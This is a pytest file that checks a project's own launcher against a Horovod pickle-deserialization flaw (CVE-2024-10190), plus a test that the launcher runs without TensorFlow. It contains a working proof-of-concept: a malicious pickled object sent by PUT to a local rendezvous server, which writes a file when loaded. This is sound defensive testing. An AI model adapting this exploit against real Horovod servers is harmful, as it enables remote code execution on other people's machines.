"""Our launcher refuses pickles, and needs no TensorFlow."""

import pytest

# Sends Horovod's own server a pickle that writes a file when it is loaded.
ATTACK = """
import base64, contextlib, pickle, sys, types, urllib.request
from horovod.runner import launch

class Evil:
    def __reduce__(self):
        return open, (sys.argv[1], "w")

def attack():
    from horovod.runner.elastic.rendezvous import create_rendezvous_handler
    from horovod.runner.http.http_server import RendezvousServer
    handler = create_rendezvous_handler(types.SimpleNamespace())
    port = RendezvousServer(0).start(handler_cls=handler)
    url = f"http://127.0.0.1:{port}/worker_addresses/localhost:0"
    data = base64.b64encode(pickle.dumps(Evil()))
    with contextlib.suppress(OSError):
        urllib.request.urlopen(urllib.request.Request(url, data=data, method="PUT"), timeout=600)
    sys.exit(3)

from launch import horovodrun
launch.run_commandline = attack
%s()
"""


@pytest.mark.parametrize(("launcher", "written"), [("attack", True), ("horovodrun.main", False)])
def test_our_launcher_loads_no_pickle(run_process, tmp_path, launcher, written):
    """CVE-2024-10190. Horovod's own launcher loads it, which shows that the attack works."""
    ran = run_process("-c", ATTACK % launcher, tmp_path / "written")
    assert ran.returncode == 3, ran.stderr
    assert (tmp_path / "written").exists() == written


WITHOUT_TENSORFLOW = """
import sys
sys.modules["tensorflow"] = None
from launch import horovodrun
sys.argv[1:] = ["-np", "1", "--gloo", "true"]
horovodrun.main()
"""


def test_our_launcher_imports_no_tensorflow(run_process):
    """Horovod's own does, to find out whether Gloo was built; here it would say no."""
    ran = run_process("-c", WITHOUT_TENSORFLOW)
    assert ran.returncode == 0, ran.stderr
